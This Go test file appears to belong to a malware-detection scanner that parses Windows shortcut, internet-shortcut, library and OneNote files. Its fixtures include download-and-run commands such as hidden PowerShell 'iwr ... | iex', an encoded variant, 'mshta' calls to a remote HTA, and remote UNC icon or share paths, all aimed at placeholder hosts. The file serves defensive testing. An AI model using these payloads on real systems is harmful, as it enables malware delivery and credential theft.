package document

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"spamcatcher/signatures/unpack/format"
)

func wideText(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// shortcutOf writes a shortcut as [MS-SHLLINK] says: a LinkInfo with the target,
// and what else is given.
func shortcutOf(target, path, arguments, icon string, behind []byte) []byte {
	flags := uint32(linkIsUnicode)
	var body []byte
	if target != "" {
		flags |= linkHasInfo
		info := make([]byte, 28)
		info = append(append(info, target...), 0, 0)
		binary.LittleEndian.PutUint32(info, uint32(len(info)))
		binary.LittleEndian.PutUint32(info[4:], 28)
		binary.LittleEndian.PutUint32(info[8:], 1)
		binary.LittleEndian.PutUint32(info[16:], 28)
		binary.LittleEndian.PutUint32(info[24:], uint32(len(info)-1))
		body = append(body, info...)
	}
	for _, x := range []struct {
		flag uint32
		text string
	}{{linkHasPath, path}, {linkHasArguments, arguments}, {linkHasIcon, icon}} {
		if x.text == "" {
			continue
		}
		flags |= x.flag
		body = binary.LittleEndian.AppendUint16(body, uint16(len([]rune(x.text))))
		body = append(body, wideText(x.text)...)
	}
	b := make([]byte, linkHeader)
	copy(b, linkClass)
	binary.LittleEndian.PutUint32(b[20:], flags)
	b = append(b, body...)
	b = append(b, 0, 0, 0, 0)
	return append(b, behind...)
}

func TestShortcut(t *testing.T) {
	const system = `C:\Windows\System32\`
	encoded := base64.StdEncoding.EncodeToString(wideText("iwr https://drop.example.net/a.ps1 | iex"))
	variable := shortcutOf("", "", "/c start https://drop.example.net/v", "", nil)
	block := make([]byte, 788)
	binary.LittleEndian.PutUint32(block, 788)
	binary.LittleEndian.PutUint32(block[4:], 0xa0000001)
	copy(block[268:], wideText(`%ComSpec%\..\cmd.exe`))
	variable = append(variable[:len(variable)-4], append(block, 0, 0, 0, 0)...)
	for name, c := range map[string]struct {
		data   []byte
		marked bool
		link   string
		script string
	}{
		"powershell":       {shortcutOf(system+`WindowsPowerShell\v1.0\powershell.exe`, "", "-w hidden -c iwr https://drop.example.net/a", "", nil), true, "https://drop.example.net/a", "-w hidden"},
		"encoded":          {shortcutOf(system+`WindowsPowerShell\v1.0\powershell.exe`, "", "-nop -EncodedCommand "+encoded, "", nil), true, "", "iwr https://drop.example.net/a.ps1"},
		"cmd, padded":      {shortcutOf(system+"cmd.exe", "", strings.Repeat(" ", 400)+"/c mshta http://198.51.100.7/a.hta", "", nil), true, "http://198.51.100.7/a.hta", "cmd.exe /c mshta"},
		"by path":          {shortcutOf("", `..\..\Windows\System32\rundll32.exe`, "url.dll,OpenURL x", "", nil), true, "", "rundll32"},
		"by variable":      {variable, true, "https://drop.example.net/v", "cmd.exe /c start"},
		"on another host":  {shortcutOf(`\\203.0.113.9\share\setup.exe`, "", "", "", nil), true, "", ""},
		"by WebDAV":        {shortcutOf(`\\files.example.net@SSL\d\a.js`, "", "", "", nil), true, "", ""},
		"explorer away":    {shortcutOf(`C:\Windows\explorer.exe`, "", `\\203.0.113.9\share`, "", nil), true, "", ""},
		"icon away":        {shortcutOf(`C:\Users\Anna\report.docx`, "", "", `\\203.0.113.9\i.ico`, nil), true, "", ""},
		"a document":       {shortcutOf(`C:\Users\Anna\Documents\report.docx`, "", "", "", nil), false, "", ""},
		"a share at home":  {shortcutOf(`\\fileserver\projects\plan.xlsx`, "", "", "", nil), false, "", ""},
		"a program":        {shortcutOf(`C:\Program Files\Office\WINWORD.EXE`, "", "/n", "", nil), false, "", ""},
		"a console":        {shortcutOf(system+"cmd.exe", "", "", "", nil), false, "", ""},
		"a browser's page": {shortcutOf(`C:\Program Files\Browser\browser.exe`, "", "--app=https://calendar.example.net/", "", nil), false, "https://calendar.example.net/", ""},
	} {
		o := openPart(t, format.Limits{}, nil, format.File{Name: "a.lnk", Data: c.data})
		if got := len(o.details(format.LinkCommand)) > 0; got != c.marked {
			t.Errorf("%s: marked %v: %q", name, got, o.job.Marks())
		}
		if got := strings.Join(o.job.Links(), " "); got != c.link {
			t.Errorf("%s: links %q, want %q", name, got, c.link)
		}
		if c.script != "" && !o.holds(format.Script, c.script) {
			t.Errorf("%s: no script with %q", name, c.script)
		}
	}
	o := openPart(t, format.Limits{}, nil, format.File{Data: shortcutOf(system+"cmd.exe", "", "/c x", "", []byte("MZ\x00\x00 what hangs on behind it"))})
	if !o.holds(format.Object, "what hangs on behind it") {
		t.Error("what is appended was not handed on")
	}
}

func TestAddressFiles(t *testing.T) {
	for name, c := range map[string]struct {
		text   string
		marked bool
		link   string
	}{
		"a page":          {"[InternetShortcut]\r\nURL=https://news.example.net/today\r\n", false, "https://news.example.net/today"},
		"a website":       {"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=https://news.example.net/b\r\n", false, "https://news.example.net/b"},
		"a file away":     {"[InternetShortcut]\r\nURL=file://203.0.113.9/share/a.js\r\n", true, ""},
		"backslashes":     {"[InternetShortcut]\nURL=file:\\\\203.0.113.9@80\\a.url\n", true, ""},
		"four slashes":    {"[InternetShortcut]\nURL=file:////203.0.113.9/a.exe\n", true, ""},
		"a file at home":  {"[InternetShortcut]\r\nURL=file:///C:/Users/Anna/notes.html\r\n", false, ""},
		"a share":         {"[InternetShortcut]\r\nURL=\\\\203.0.113.9\\a\\b.exe\r\n", true, ""},
		"a search":        {"[InternetShortcut]\r\nURL=search-ms:query=invoice&crumb=location:\\\\203.0.113.9\\a\r\n", true, ""},
		"an icon away":    {"[InternetShortcut]\r\nURL=https://news.example.net/c\r\nIconFile=\\\\203.0.113.9\\i.ico\r\n", true, "https://news.example.net/c"},
		"an icon at home": {"[InternetShortcut]\r\nURL=https://news.example.net/d\r\nIconFile=C:\\x.ico\r\n", false, "https://news.example.net/d"},
		"scf":             {"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\x\\i.ico\r\n", true, ""},
		"library away":    {`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\203.0.113.9\docs</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`, true, ""},
		"library at home": {`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></libraryDescription>`, false, ""},
		"saved search":    {`<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\203.0.113.9\d"/></scope></query></persistedQuery>`, true, ""},
		"settings":        {`<?xml version="1.0"?><PCSettings><SettingContent><ApplicationInformation><DeepLink>%windir%\system32\cmd.exe /c start https://drop.example.net/s</DeepLink></ApplicationInformation></SettingContent></PCSettings>`, true, "https://drop.example.net/s"},
		"xml":             {`<?xml version="1.0"?><feed><url>https://news.example.net/</url></feed>`, false, ""},
		"ini":             {"[Settings]\r\nURL=file://203.0.113.9/x\r\n", false, ""},
	} {
		o := openPart(t, format.Limits{}, nil, format.File{Name: "a.url", Data: []byte(c.text)})
		if got := len(o.details(format.LinkCommand)) > 0; got != c.marked {
			t.Errorf("%s: marked %v: %q", name, got, o.job.Marks())
		}
		if got := strings.Join(o.job.Links(), " "); got != c.link {
			t.Errorf("%s: links %q, want %q", name, got, c.link)
		}
	}
}

// noteOf writes what of a OneNote section matters: names as properties, and files
// in their stores.
func noteOf(names []string, files ...[]byte) []byte {
	b := []byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3")
	b = append(b, make([]byte, 1008)...)
	for _, n := range names {
		text := append(wideText(n), 0, 0)
		b = binary.LittleEndian.AppendUint32(b, uint32(len(text)))
		b = append(append(b, text...), 0, 0, 0, 0)
	}
	for _, f := range files {
		b = append(b, noteFile...)
		b = binary.LittleEndian.AppendUint64(b, uint64(len(f)))
		b = append(append(b, make([]byte, 12)...), f...)
	}
	return b
}

func TestOneNote(t *testing.T) {
	picture := []byte("\x89PNG\r\n\x1a\n a picture of the test")
	o := openPart(t, format.Limits{}, nil, format.File{Data: noteOf([]string{"plan v1.2.hta", "list.cmd"}, picture, []byte("<script>a harmless script</script>"), []byte("@echo off\r\necho harmless"))})
	if got := o.details(format.NoteObject); !slices.Equal(got, []string{"plan v1.2.hta", "list.cmd"}) {
		t.Errorf("objects %q", got)
	}
	if !o.holds(format.Object, "a harmless script") || !o.holds(format.Object, "echo harmless") || !o.holds(format.Stream, "a picture") {
		t.Errorf("files %+v", o.files)
	}
	o = openPart(t, format.Limits{}, nil, format.File{Data: noteOf([]string{"Meeting of Monday. Ideas."}, picture)})
	if got := o.job.Marks(); len(got) > 0 {
		t.Errorf("notes with a picture: %q", got)
	}
	lie := noteOf(nil, []byte("short"))
	binary.LittleEndian.PutUint64(lie[len(lie)-5-20:], 1<<60)
	if o = openPart(t, format.Limits{}, nil, format.File{Data: lie}); !o.holds(format.Object, "short") {
		t.Error("a length that lies hides the file")
	}
	var many [][]byte
	for i := range 20000 {
		many = append(many, fmt.Append(nil, "object ", i))
	}
	if o = openPart(t, format.Limits{Members: 1000}, nil, format.File{Data: noteOf(nil, many...)}); len(o.details(format.LimitMembers)) == 0 {
		t.Error("too many objects are no limit")
	}
}

func FuzzShortcut(f *testing.F) {
	f.Add(shortcutOf(`C:\Windows\System32\cmd.exe`, "x", "/c start http://a.example.net", "icon", []byte("behind it is more")))
	f.Add([]byte("[InternetShortcut]\r\nURL=file://203.0.113.9/share/a.js\r\n"))
	f.Add([]byte(`<?xml version="1.0"?><persistedQuery><include path="\\203.0.113.9\d"/>`))
	f.Fuzz(func(t *testing.T, data []byte) {
		fuzzPart(t, data, "a.lnk")
		fuzzPart(t, append([]byte(linkClass), data...), "a.lnk")
	})
}

func FuzzOneNote(f *testing.F) {
	f.Add(noteOf([]string{"a.hta"}, []byte("x"), []byte("MZ")))
	f.Fuzz(func(t *testing.T, data []byte) { fuzzPart(t, append(noteOf(nil), data...), "a.one") })
}
